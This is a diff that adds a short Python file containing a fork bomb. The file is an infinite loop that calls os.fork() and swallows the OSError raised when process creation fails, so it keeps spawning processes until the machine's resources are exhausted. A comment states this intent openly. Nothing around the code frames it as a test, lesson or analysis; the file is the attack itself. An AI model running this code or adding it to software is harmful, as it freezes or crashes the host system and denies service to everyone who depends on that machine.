@@ -1,0 +1,7 @@
+# Forks until it may not, and then tries again.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
